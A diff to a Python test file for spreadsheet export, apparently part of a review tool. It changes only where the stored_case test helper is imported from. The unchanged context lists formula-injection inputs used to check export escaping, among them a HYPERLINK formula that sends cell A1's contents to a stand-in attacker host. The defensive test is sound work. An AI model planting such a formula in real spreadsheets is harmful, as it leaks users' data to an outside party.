@@ -11,9 +11,9 @@ import pytest
 
 from export.audit import spreadsheet_safe, write_audit
 from export.step13 import write_step13
-from export.testing import stored_case
 from export.xlsx import keep_text_as_data, new_workbook
 from review.decisions import transcribe
+from tests.stored_case import stored_case
 
 #: Texts a reviewer might type (or paste) that a spreadsheet would run.
 FORMULAS = ("=1+2", '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+1+2", "-1+2", "@SUM(A1)",
